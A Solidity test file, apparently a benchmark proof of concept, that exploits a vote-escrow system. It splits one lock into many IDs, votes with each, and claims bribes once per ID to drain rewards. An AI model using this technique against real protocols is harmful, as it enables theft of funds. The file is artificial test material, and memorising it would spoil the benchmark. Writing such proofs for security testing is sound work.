// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    uint256[] private ids;

    function begin(TideToken token, VotingEscrow escrow, Voter voter, address gauge) external {
        token.approve(address(escrow), type(uint256).max);
        uint256 id = escrow.createLock(150e18, 104 weeks, address(this));
        ids.push(id);
        vote(voter, id, gauge);
        uint256 amount = 150e18;
        for (uint256 i = 0; i < 20; i++) {
            amount -= 0.1e18;
            try escrow.split(id, amount) returns (uint256 part) {
                id = part;
            } catch {
                break;
            }
            ids.push(id);
            vote(voter, id, gauge);
        }
    }

    function vote(Voter voter, uint256 id, address gauge) private {
        address[] memory choices = new address[](1);
        uint256[] memory shares = new uint256[](1);
        (choices[0], shares[0]) = (gauge, 1);
        voter.vote(id, choices, shares);
    }

    function end(BribeVault bribes, address asset) external {
        address[] memory list = new address[](1);
        list[0] = asset;
        for (uint256 i = 0; i < ids.length; i++) {
            bribes.claim(ids[i], list);
        }
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 150e18);
    }

    function exploit() public {
        other.begin(tide, escrow, voter, address(gaugeA));
        vm.warp(block.timestamp + EPOCH);
        other.end(bribesA, address(usd));
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 2_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
